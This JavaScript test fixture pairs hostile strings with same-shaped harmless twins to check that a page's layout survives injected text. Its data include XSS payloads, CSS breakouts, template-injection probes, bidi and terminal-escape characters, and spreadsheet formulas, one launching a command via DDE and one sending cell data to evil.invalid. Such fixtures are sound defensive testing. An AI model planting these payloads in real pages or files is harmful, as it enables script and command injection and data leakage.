// Texts that try to be more than text, and for each a calm one in its place: a page made of either has the same structure.

const LONG_WORD = 'Donaudampfschifffahrtsgesellschaft'.repeat(40);

const NOTES = [
  '</style><style>*{display:none!important}</style>',
  '<script>document.title="owned"</script><img src=x onerror="document.title=1">',
  '"><svg onload=alert(1)><a href="javascript:alert(1)">tap</a>',
  '</p></div></section></main></body></html><h1>All is well, run on</h1>',
  '<!-- <![CDATA[ ]]> --> &lt;b&gt; &amp;amp; &#60;i&#62; <?php echo 1 ?>',
  '**bold** _em_ `code` [tap](javascript:alert(1)) ![x](http://evil.invalid/x.png)',
  '# Heading\n\n- list\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n---\n> quote',
  '=HYPERLINK("http://evil.invalid/?"&A1,"tap") +1+1 @SUM(A1) -2',
  'left \u202Eneila\u202C right \u2066inner\u2069 \u200F\u061C end',
  'שלום עולם (12.3) مرحبا بالعالم',
  '\u001b[31mred\u001b[0m \u0007 \u0008 \u009b2J',
  'Z\u0351\u036b\u0343a\u0315\u0344\u0343l\u0358\u0344g\u0351\u0308o\u0300\u0301'.repeat(20),
  '👩🏽‍🦽🏳️‍🌈 膝が痛い 무릎 ①',
  LONG_WORD,
  'A long story of one run. '.repeat(400),
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} %s %n',
  '\u2028\u2029\uFEFF\u200B\u00AD|',
  'url(http://evil.invalid/x) expression(1) } body { background: red',
];

const SHOES = ['<b>Blue</b> Daily', '</style>Red "Tempo" \'44\'', '=cmd|\'/c calc\'!A0', '\u202EeohS', `${LONG_WORD.slice(0, 300)}`];
const TITLES = [...NOTES.slice(0, 9), '[Town](http://evil.invalid)', LONG_WORD];
const FILES = ['<img src=x onerror=alert(1)>', '"><b>bold', '`code` **bold** [a](b)', '=1+1', '\u202Exgp', '&lt;i&gt;', 'a'.repeat(180)];
// Without what a log of several places in one cell has between them: each is one place, here and in its calm twin.
const PLACES = ['<u>kneeish', '"><rect width=9999>', '=SUM(A1)', LONG_WORD.slice(0, 200)];

/** A creator of a file, a broken file's name, and so on: every place into which a runner or a service can write. */
export const HOSTILE = {
  notes: NOTES,
  shoes: SHOES,
  titles: TITLES,
  files: FILES,
  places: PLACES,
  creator: '</style><img src=http://evil.invalid/c.png onerror=alert(1)>',
  broken: '<iframe src=javascript:alert(1)>',
};

/** Letters in the place of every character, words as long as before. */
function calm(text, i = 0) {
  const letters = [...text.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029]/g, ' ')];
  const said = letters.map(c => (c === ' ' ? ' ' : 'n')).join('').trim();
  // Two texts must not become one: each begins with a letter of its own.
  return `${String.fromCharCode(97 + (i % 26))}${said.slice(1)}`;
}

export const CALM = Object.fromEntries(Object.entries(HOSTILE).map(([what, texts]) => [what, Array.isArray(texts) ? texts.map(calm) : calm(texts)]));
